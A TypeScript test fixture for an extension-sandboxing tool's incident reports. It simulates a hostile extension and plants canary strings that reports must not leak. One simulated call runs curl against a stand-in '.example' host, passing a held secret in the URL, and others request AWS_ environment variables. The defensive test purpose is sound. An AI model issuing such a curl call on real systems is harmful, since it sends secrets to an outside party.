/**
 * A real store for the report tests: hostile calls through the real dispatcher and evidence writer, a few direct
 * writer records carrying risk scores, a trust transition and alerts. Canaries are planted where a careless report
 * would copy them: in params (paths, command lines, URLs), in what the operations return (a held secret), in a
 * guest-chosen method name, in an unknown reason code and in an alert summary.
 */
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after } from 'node:test';
import { createDispatcher, type Operation } from '../../../src/dispatch/dispatcher.ts';
import { EvidenceWriter, openStore, parseEntry, storedEntries } from '../../../src/evidence/index.ts';
import { compilePolicy } from '../../../src/policy/precedence.ts';
import { rulesFor } from '../../../src/policy/settings.ts';
import { TrustRegistry } from '../../../src/trust/index.ts';
import type { IncidentReportInput } from '../../../src/incident/report/index.ts';

const homes: string[] = [];
after(() => {
  for (const h of homes) rmSync(h, { recursive: true, force: true });
});

export function tempDir(prefix = 'pi-warden-report-'): string {
  const h = mkdtempSync(join(tmpdir(), prefix));
  homes.push(h);
  return h;
}

export const EXT = 'hostile-ext';
export const BYSTANDER = 'bystander-ext';

export interface ReportFixture {
  readonly home: string;
  readonly input: IncidentReportInput;
  /** Strings that must never appear in a report. */
  readonly canaries: readonly string[];
}

/** Ledger entries and alerts of `ext` in the store, counted straight from the tables. */
export function storeCounts(home: string, ext: string): { entries: number; alerts: number; trust: number } {
  const db = openStore(home, { readOnly: true });
  try {
    let entries = 0;
    for (const s of storedEntries(db)) if (parseEntry(s.entry, s.ledger_hash).extension_id === ext) entries++;
    const alerts = (db.prepare("SELECT count(*) AS n FROM alerts WHERE extension_id = ? OR extension_id = ''").get(ext) as { n: number }).n;
    const trust = (db.prepare('SELECT count(*) AS n FROM trust_transitions WHERE extension_id = ?').get(ext) as { n: number }).n;
    return { entries, alerts, trust };
  } finally {
    db.close();
  }
}

/** The incident input of the tests; `extension` null: an incident about every extension. */
export function incidentInput(openedMs: number, closedMs: number | undefined, extension: string | null = EXT): IncidentReportInput {
  const at = (ms: number) => new Date(ms).toISOString();
  return {
    incident: {
      id: 'INC-20261206-001',
      type: 'INC-1',
      ...(extension === null ? {} : { extension }),
      openedAt: at(openedMs),
      ...(closedMs === undefined ? {} : { closedAt: at(closedMs) }),
      phases: [
        {
          name: 'Detection & Triage',
          nist: 'Detect (DE)',
          sans: 'Identification',
          startedAt: at(openedMs),
          endedAt: at(openedMs + 5 * 60_000),
          slaMs: 15 * 60_000,
        },
        {
          name: 'Containment',
          nist: 'Respond (RS.MI)',
          sans: 'Containment',
          startedAt: at(openedMs + 5 * 60_000),
          endedAt: at(openedMs + 45 * 60_000),
          slaMs: 30 * 60_000,
        },
        { name: 'Evidence Collection', nist: 'Respond (RS.AN)', sans: 'Identification', slaMs: 60 * 60_000 },
      ],
      evidence: [{ name: 'bundle.tar', sha256: 'ab'.repeat(32) }],
      remediations: ['policy: deny exec for hostile-ext'],
    },
  };
}

export async function buildFixture(hostileCalls = 24): Promise<ReportFixture> {
  const home = tempDir();
  const tag = randomBytes(6).toString('hex');
  const secret = `HELD-SECRET-${tag}`;
  const param = `RAW-PARAM-${tag}`;
  const method = `METHOD-${tag}`;
  const reason = `reason_${tag}`;
  const summary = `SUMMARY-${tag}`;
  const writer = await EvidenceWriter.open(home, { bursts: { burst: Number.MAX_SAFE_INTEGER } });
  const ops = new Map<string, Operation>([
    ['fs.read', () => secret],
    ['env.get', () => secret],
  ]);
  const policy = compilePolicy(rulesFor('safe', false));
  const d = createDispatcher({ policy, operations: ops, recorder: writer, alerts: writer });
  for (let i = 0; i < hostileCalls; i++) {
    const call =
      i % 4 === 0
        ? { call_id: `c${i}`, method: 'exec', params: { cmd: 'curl', args: [`https://${param}.example/?k=${secret}`] } }
        : i % 4 === 1
          ? { call_id: `c${i}`, method: 'env.get', params: { name: `AWS_${param}` } }
          : i % 4 === 2
            ? { call_id: `c${i}`, method, params: { x: param } }
            : { call_id: `c${i}`, method: 'fs.read', params: { path: `/project/${param}-${i}.ts` } };
    await d.dispatch(EXT, call);
  }
  for (let i = 0; i < 3; i++)
    await d.dispatch(BYSTANDER, { call_id: `b${i}`, method: 'fs.read', params: { path: `/project/${param}.md` } });
  const base = { extension_id: EXT, declared_capability: null, duration_ms: 0, policy, params: { path: param } };
  for (const [i, score] of [12, 40, 75].entries()) {
    writer.record({
      ...base,
      ts_ms: Date.now(),
      call_id: `r${i}`,
      method: 'fs.read',
      capability: 'read',
      decision: score > 50 ? 'deny' : 'allow',
      rule: 'default_caps',
      stage: score > 50 ? 'risk' : null,
      error_code: score > 50 ? 'denied' : null,
      reason_codes: score > 50 ? ['deny_caps', reason as never] : [],
      risk_score: score,
    });
  }
  writer.raise({
    extension_id: EXT,
    category: 'policy_violation',
    severity: 'high',
    method,
    summary: `${EXT} read /project/${param} and got ${secret} (${summary})`,
    reason_codes: ['fs_scope', reason],
    remediation: `${summary} review`,
  });
  // Another extension's alert stays out of this incident's report; a store-wide one (no extension) is in it.
  writer.raise({ extension_id: BYSTANDER, category: 'anomaly', severity: 'low', summary: 'bystander', reason_codes: [], remediation: '-' });
  writer.raise({ extension_id: '', category: 'ledger_integrity', severity: 'high', summary: 'store', reason_codes: [], remediation: '-' });
  await writer.close();
  const db = openStore(home);
  try {
    new TrustRegistry(db).transition(EXT, 'quarantine', 'incident-commander', 'INC-1 triage');
  } finally {
    db.close();
  }
  // Opened an hour ago: its first two phases have ended, the third has not started.
  return { home, input: incidentInput(Date.now() - 60 * 60_000, undefined), canaries: [secret, param, method, reason, summary, tag] };
}
